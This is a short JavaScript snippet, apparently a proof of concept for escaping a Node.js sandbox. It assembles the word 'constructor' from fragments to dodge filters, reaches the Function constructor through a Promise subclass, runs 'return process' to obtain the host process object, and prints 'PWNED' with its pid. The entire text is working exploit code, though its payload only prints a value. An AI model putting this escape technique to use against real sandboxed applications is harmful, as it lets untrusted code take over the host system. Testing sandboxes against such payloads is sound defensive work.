const w = ['con', 'structor'].join('');
class L extends Promise { go(f) { return f[w]; } }
new L(() => 1).go({});
const fn = (x) => x;
console.log('PWNED', L.resolve(1).then((x) => x).go(fn)('return process')().pid);
